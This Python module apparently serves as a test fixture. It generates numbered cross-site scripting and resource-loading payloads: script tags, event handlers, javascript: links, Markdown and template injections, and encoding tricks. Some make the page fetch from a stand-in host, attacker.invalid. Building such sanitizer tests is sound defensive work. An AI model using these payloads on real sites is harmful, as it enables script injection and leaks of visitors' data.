"""Numbered strings that would run, load, send or restyle something if they were taken for markup.

A payload that runs calls `ran(number)`; one that loads asks `attacker.invalid` for its number.
"""

from __future__ import annotations

import html

HOST = "http://attacker.invalid"

# RUN stands for the script to run, URL for the address to load.
RUNS = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT\n>",
    "<script/x>RUN</script/x>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img src=x\nonerror\n=\nRUN\n>",
    '<img src=x onerror="&#82;RUN"><img src=x onerror="RUN">',
    "<IMG SRC=x ONERROR=RUN ALT=x>",
    "<image src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><script>&#x72;an(NUMBER)</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN>x</button>",
    "<div contenteditable autofocus onfocus=RUN>",
    "<a autofocus tabindex=1 onfocus=RUN>x</a>",
    "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN></video>",
    "<video><source src=x onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<object data=x onerror=RUN></object>",
    "<embed src=x onload=RUN>",
    "<iframe onload=RUN></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe src='data:text/html,<script>parent.RUN</script>'></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<style onload=RUN></style>",
    "<link rel=stylesheet href=x onerror=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=RUN>x</b>",
    "<form action=javascript:RUN><input type=submit autofocus onfocus=this.form.submit()></form>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href=javascript:RUN//><a href=#>x</a>",
    "<a href=javascript:RUN>x</a>",
    "<a href='jav&#x09;ascript:RUN'>x</a>",
    "<a href=' &#14; javascript:RUN'>x</a>",
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "![x](javascript:RUN)",
    "![x](x 'y\"onerror=\"RUN')",
    "[x][r]\n\n[r]: javascript:RUN",
    "<javascript:RUN>",
    "`<img src=x onerror=RUN>`",
    "```html\n<img src=x onerror=RUN>\n```",
    "| a |\n|---|\n| <img src=x onerror=RUN> |",
    "$\\href{javascript:RUN}{x}$",
    "$$\\htmlData{onclick=RUN}{x}$$",
    "${RUN}",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "{@html '<img src=x onerror=RUN>'}",
    "#{RUN} <%= RUN %> [[RUN]]",
    "javascript:RUN",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "＜script＞RUN＜/script＞",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<\u2028script>RUN</script>",
)
LOADS = (
    "<img src=URL>",
    "<img srcset='URL 1x'>",
    "<picture><source srcset=URL><img src=x></picture>",
    "<video poster=URL></video>",
    "<video src=URL autoplay></video>",
    "<audio src=URL autoplay></audio>",
    "<video><track default kind=captions src=URL></video>",
    "<script src=URL></script>",
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>",
    "<link rel=preload as=image href=URL>",
    "<link rel=modulepreload href=URL>",
    "<link rel=icon href=URL>",
    "<link rel=dns-prefetch href=URL><link rel=preconnect href=URL>",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)!important}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x!important}</style>",
    "<b style='background:url(URL)'>x</b>",
    "<b style='display:block;height:9px;border-image:url(URL) 1'>x</b>",
    "<iframe src=URL></iframe>",
    "<embed src=URL>",
    "<object data=URL></object>",
    "<svg width=9 height=9><image width=9 height=9 href=URL></svg>",
    "<svg><use href=URL#x></use></svg>",
    "<svg><filter id=f><feImage href=URL></filter><rect width=9 height=9 filter=url(#f)></rect></svg>",
    "<table background=URL><tr><td>x</td></tr></table>",
    "<body background=URL>",
    "<input type=image src=URL>",
    "<form action=URL id=f><input autofocus onfocus=this.form.submit()></form>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href=URL><img src=x>",
    "<a href=URL ping=URL target=_blank>x</a>",
    "![x](URL)",
    "![x][r]\n\n[r]: URL",
    "[![x](URL)](URL)",
    "<URL>",
    "</style><img src=URL><style>",
    "<details open><summary>x</summary><img src=URL></details>",
)
# Ways to break out of what surrounds a string; the last one works where a string is unescaped twice.
WAYS_OUT = ("{}", "\"'>{}", "--></script></style></title></textarea></noscript></p>{}", "ESCAPED")


def payloads() -> list[str]:
    """Returns the payloads; number n calls `ran(n)` or asks for `/n` of the attacker's host."""
    kinds = [
        html.escape(kind) if way_out == "ESCAPED" else way_out.replace("{}", kind)
        for way_out in WAYS_OUT
        for kind in (*RUNS, *LOADS)
    ]
    return [
        kind.replace("RUN", f"ran({number})").replace("NUMBER", str(number)).replace("URL", f"{HOST}/{number}")
        for number, kind in enumerate(kinds)
    ]
